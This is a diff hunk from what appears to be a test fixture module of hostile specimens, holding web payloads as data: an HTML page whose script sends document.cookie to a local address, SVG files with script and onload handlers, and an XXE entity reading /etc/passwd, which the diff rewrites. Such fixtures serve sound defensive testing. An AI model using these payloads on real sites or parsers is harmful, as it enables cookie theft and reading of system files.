@@ -11,8 +11,7 @@ from archive.specimens.hostile.types import TAKEN, Case
 _PAGE = b"<html><body><script>document.location='http://127.0.0.1:9/'+document.cookie</script></body></html>"
 _SCRIPTED = (
     "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>alert(1)</script></svg>",
-    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
-    "<svg xmlns='http://www.w3.org/2000/svg'><text>&e;</text></svg>",
+    "<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&e;</svg>",
     "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='http://127.0.0.1:9/x'/></svg>",
 )
 
